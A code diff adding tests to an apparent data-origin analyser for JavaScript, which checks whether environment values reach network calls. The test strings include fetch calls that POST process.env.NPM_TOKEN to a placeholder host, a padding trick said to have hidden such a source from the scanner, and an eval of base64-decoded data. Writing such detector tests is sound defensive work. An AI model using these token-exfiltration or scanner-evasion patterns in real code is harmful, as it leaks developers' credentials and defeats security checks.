@@ -125,6 +125,21 @@ describe('where values come from', () => {
     expect(argOrigins(code, 'dns.lookup')).toContain('host-info');
   });
 
+  it('the environment at the bottom of a long call chain still reaches the request', () => {
+    // Padding the expression with thousands of nodes used to hide its source: only the first 3,000 were read.
+    const chain = `[process.env.NPM_TOKEN]${'.concat([])'.repeat(2_000)}`;
+    const code = `fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(${chain}) })`;
+    expect(argOrigins(code, 'fetch')).toContain('env');
+    const clean = `fetch('https://x.invalid', { method: 'POST', body: JSON.stringify([1]${'.concat([])'.repeat(2_000)}) })`;
+    expect(argOrigins(clean, 'fetch')).toEqual([]);
+  });
+
+  it('a chain built on an alias learns its origins when the alias is bound later in the file', () => {
+    const code = `function send() { const copy = data.slice().concat([]); fetch('https://x.invalid', { body: copy }); }
+      var data = [process.env.NPM_TOKEN];`;
+    expect(argOrigins(code, 'fetch')).toContain('env');
+  });
+
   it('decoded data', () => {
     expect(argOrigins("eval(Buffer.from(payload, 'base64').toString())", 'eval')).toContain('decoded');
   });
